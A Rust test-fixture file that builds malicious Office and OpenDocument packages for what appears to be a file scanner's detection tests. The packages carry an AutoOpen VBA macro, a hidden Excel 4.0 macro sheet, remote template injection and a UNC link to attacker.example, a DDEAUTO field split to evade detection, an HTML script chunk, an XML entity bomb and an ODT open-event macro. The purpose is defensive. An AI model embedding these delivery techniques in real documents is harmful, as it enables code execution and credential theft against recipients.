//! Fixtures for the office area: OOXML and ODF packages named after the attack they carry,
//! plus clean controls. Every package is built member by member here so that the bytes are
//! deterministic and the attack is visible in the source.

use crate::fixture::Fixture;
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;

pub(crate) const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
pub(crate) const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
pub(crate) const DOCX_CT: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
pub(crate) const DOCM_CT: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";
const XLSX_CT: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const XLSM_CT: &str = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
const PPTX_CT: &str =
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";

/// A zip with the members in order; `stored` names are not compressed.
pub(crate) fn zip(parts: &[(&str, Vec<u8>)], stored: &[&str]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in parts {
        let method = if stored.contains(name) {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        let o = SimpleFileOptions::default()
            .compression_method(method)
            .last_modified_time(zip::DateTime::default());
        w.start_file(*name, o).expect("in-memory zip");
        w.write_all(data).expect("in-memory zip");
    }
    w.finish().expect("in-memory zip").into_inner()
}

pub(crate) fn content_types(main_part: &str, main_ct: &str, extra: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/{main_part}" ContentType="{main_ct}"/>{extra}</Types>"#
    )
    .into_bytes()
}

pub(crate) fn rels(items: &[(&str, &str, &str, bool)]) -> Vec<u8> {
    let mut s = String::from(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#,
    );
    for (id, ty, target, external) in items {
        let ty = if ty.starts_with("http") {
            ty.to_string()
        } else {
            format!("{REL}/{ty}")
        };
        let mode = if *external {
            r#" TargetMode="External""#
        } else {
            ""
        };
        s.push_str(&format!(
            r#"<Relationship Id="{id}" Type="{ty}" Target="{target}"{mode}/>"#
        ));
    }
    s.push_str("</Relationships>");
    s.into_bytes()
}

pub(crate) fn root_rels(main: &str) -> Vec<u8> {
    rels(&[("rId1", "officeDocument", main, false)])
}

pub(crate) fn word_doc(body: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="{W}" xmlns:r="{REL}"><w:body>{body}<w:sectPr/></w:body></w:document>"#
    )
    .into_bytes()
}

pub(crate) fn para(text: &str) -> String {
    format!("<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>")
}

/// A docx with the given body, extra parts and document relationships.
pub(crate) fn docx(
    main_ct: &str,
    body: &str,
    doc_rels: &[(&str, &str, &str, bool)],
    extra: Vec<(&str, Vec<u8>)>,
    ct_extra: &str,
) -> Vec<u8> {
    let mut parts = vec![
        (
            "[Content_Types].xml",
            content_types("word/document.xml", main_ct, ct_extra),
        ),
        ("_rels/.rels", root_rels("word/document.xml")),
        ("word/document.xml", word_doc(body)),
        ("word/_rels/document.xml.rels", rels(doc_rels)),
    ];
    parts.extend(extra);
    zip(&parts, &[])
}

/// A minimal VBA project: an OLE compound file with the storages and streams olevba looks
/// for (`VBA/dir`, `VBA/_VBA_PROJECT`, a module stream, `PROJECT`), the module source being
/// an `AutoOpen` macro stored as an MS-OVBA container of literal-only chunks.
pub(crate) fn vba_project() -> Vec<u8> {
    let source = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n";
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("in-memory cfb");
    cf.create_storage("/VBA").expect("cfb");
    let streams: [(&str, Vec<u8>); 4] = [
        ("/VBA/_VBA_PROJECT", vec![0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00]),
        ("/VBA/dir", ovba_literal(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00")),
        ("/VBA/ThisDocument", ovba_literal(source)),
        ("/PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\nName=\"Project\"\r\n".to_vec()),
    ];
    for (name, data) in streams {
        let mut s = cf.create_stream(name).expect("cfb");
        s.write_all(&data).expect("cfb");
    }
    // Fixed timestamps keep the fixture byte-identical across runs.
    for p in ["/", "/VBA"] {
        cf.set_created_time(p, std::time::UNIX_EPOCH).expect("cfb");
        cf.set_modified_time(p, std::time::UNIX_EPOCH).expect("cfb");
    }
    cf.flush().expect("cfb");
    cf.into_inner().into_inner()
}

/// MS-OVBA §2.4.1 compressed container holding `data` as literal tokens only (every flag
/// byte zero): valid input for any conforming decompressor.
fn ovba_literal(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x01];
    for chunk in data.chunks(4096) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0u8);
            body.extend_from_slice(group);
        }
        // Header: size - 3 in 12 bits, signature 0b011, compressed flag set.
        let header = ((body.len() + 2 - 3) as u16 & 0x0FFF) | 0x3000 | 0x8000;
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

fn xlsx(
    main_ct: &str,
    workbook_body: &str,
    wb_rels: &[(&str, &str, &str, bool)],
    extra: Vec<(&str, Vec<u8>)>,
) -> Vec<u8> {
    let wb = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{REL}">{workbook_body}</workbook>"#
    );
    let mut parts = vec![
        ("[Content_Types].xml", content_types("xl/workbook.xml", main_ct, r#"<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>"#)),
        ("_rels/.rels", root_rels("xl/workbook.xml")),
        ("xl/workbook.xml", wb.into_bytes()),
        ("xl/_rels/workbook.xml.rels", rels(wb_rels)),
        ("xl/worksheets/sheet1.xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>budget 2026</t></is></c><c r="B1"><v>42</v></c></row></sheetData></worksheet>"#.to_vec()),
    ];
    parts.extend(extra);
    zip(&parts, &[])
}

const SHEET1: &str = r#"<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>"#;

/// Every office fixture.
pub fn fixtures() -> Vec<Fixture> {
    let mut v = Vec::new();
    v.push(Fixture::dangerous(
        "docm_autoopen_vba.docm",
        docx(
            DOCM_CT,
            &para("Please enable content."),
            &[(
                "rId1",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                false,
            )],
            vec![("word/vbaProject.bin", vba_project())],
            "",
        ),
        &["ooxml.vba_project"],
        "macro-enabled Word document whose VBA project runs AutoOpen",
    ));
    v.push(Fixture::dangerous(
        "xlsm_xlm_macro_sheet_auto_open.xlsm",
        xlsx(
            XLSM_CT,
            r#"<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>"#,
            &[("rId1", "worksheet", "worksheets/sheet1.xml", false), ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", false)],
            vec![("xl/macrosheets/sheet1.xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"#.to_vec())],
        ),
        &["ooxml.xlm_macro_sheet", "ooxml.auto_open_name", "ooxml.hidden_sheet"],
        "Excel 4.0 macro sheet (very hidden) started by an _xlnm.Auto_Open name",
    ));
    v.push(Fixture::dangerous(
        "docx_remote_attached_template.docx",
        docx(
            DOCX_CT,
            &para("Invoice attached."),
            &[("rId1", "settings", "settings.xml", false)],
            vec![
                (
                    "word/settings.xml",
                    format!(
                        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="{W}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/></w:settings>"#
                    )
                    .into_bytes(),
                ),
                (
                    "word/_rels/settings.xml.rels",
                    rels(&[(
                        "rId1",
                        "attachedTemplate",
                        "https://attacker.example/template.dotm",
                        true,
                    )]),
                ),
            ],
            "",
        ),
        &["ooxml.attached_template"],
        "template injection: the document loads a macro template from a web server",
    ));
    v.push(Fixture::dangerous(
        "docx_ddeauto_split_runs.docx",
        docx(
            DOCX_CT,
            &format!("{}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>cached result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", para("Quarterly report")),
            &[],
            vec![],
            "",
        ),
        &["ooxml.dde"],
        "DDEAUTO field whose instruction is split across runs to evade keyword matching",
    ));
    v.push(Fixture::dangerous(
        "docx_altchunk_html.docx",
        docx(
            DOCX_CT,
            &format!(
                "{}<w:altChunk r:id=\"rIdAlt\"/>",
                para("Imported section follows.")
            ),
            &[("rIdAlt", "aFChunk", "afchunk.htm", false)],
            vec![(
                "word/afchunk.htm",
                b"<html><body><p>imported</p><script>alert(1)</script></body></html>".to_vec(),
            )],
            r#"<Default Extension="htm" ContentType="text/html"/>"#,
        ),
        &["ooxml.alt_chunk"],
        "altChunk importing an HTML part (with script) that Word converts on open",
    ));
    v.push(Fixture::dangerous(
        "pptx_unc_hyperlink.pptx",
        zip(
            &[
                ("[Content_Types].xml", content_types("ppt/presentation.xml", PPTX_CT, r#"<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>"#)),
                ("_rels/.rels", root_rels("ppt/presentation.xml")),
                ("ppt/presentation.xml", format!(r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="{REL}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>"#).into_bytes()),
                ("ppt/_rels/presentation.xml.rels", rels(&[("rId1", "slide", "slides/slide1.xml", false)])),
                ("ppt/slides/slide1.xml", format!(r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{REL}"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="rId2"/></a:rPr><a:t>Open the shared folder</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"#).into_bytes()),
                ("ppt/slides/_rels/slide1.xml.rels", rels(&[("rId2", "hyperlink", "\\\\attacker.example\\share\\payload.exe", true)])),
            ],
            &[],
        ),
        &["ooxml.external_relationship"],
        "hyperlink to a UNC path (NTLM hash leak, remote executable)",
    ));
    let bomb = {
        let mut s = String::from(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE sst [\n<!ENTITY l0 \"lollollollollollollollollollol\">\n",
        );
        for i in 1..10 {
            let prev = format!("&l{};", i - 1).repeat(10);
            s.push_str(&format!("<!ENTITY l{i} \"{prev}\">\n"));
        }
        s.push_str("]>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>&l9;</t></si></sst>");
        s.into_bytes()
    };
    v.push(Fixture::dangerous(
        "xlsx_dtd_entity_bomb.xlsx",
        xlsx(
            XLSX_CT,
            SHEET1,
            &[
                ("rId1", "worksheet", "worksheets/sheet1.xml", false),
                ("rId2", "sharedStrings", "sharedStrings.xml", false),
            ],
            vec![("xl/sharedStrings.xml", bomb)],
        ),
        &["ooxml.xml_dtd"],
        "billion-laughs entity expansion in sharedStrings.xml (never expanded)",
    ));
    v.push(Fixture::clean(
        "docx_clean_control.docx",
        docx(
            DOCX_CT,
            &format!("{}{}", para("令和8年度 予算資料"), para("Plain paragraph.")),
            &[],
            vec![],
            "",
        ),
        "clean control: a plain Word document",
    ));
    v.push(Fixture::clean(
        "xlsx_clean_control.xlsx",
        xlsx(
            XLSX_CT,
            SHEET1,
            &[("rId1", "worksheet", "worksheets/sheet1.xml", false)],
            vec![],
        ),
        "clean control: a plain workbook",
    ));
    v.push(Fixture::dangerous(
        "odt_basic_macro_event.odt",
        odt(),
        &["odf.macro", "odf.event_listener"],
        "OpenDocument text with a Basic module bound to the document-open event",
    ));
    v
}

fn odt() -> Vec<u8> {
    let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>Open me.</text:p></office:text></office:body></office:document-content>"#;
    let module = r#"<?xml version="1.0" encoding="UTF-8"?>
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
  Shell("calc")
End Sub</script:module>"#;
    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;
    zip(
        &[
            (
                "mimetype",
                b"application/vnd.oasis.opendocument.text".to_vec(),
            ),
            ("content.xml", content.as_bytes().to_vec()),
            ("Basic/Standard/Module1.xml", module.as_bytes().to_vec()),
            ("META-INF/manifest.xml", manifest.as_bytes().to_vec()),
        ],
        &["mimetype"],
    )
}
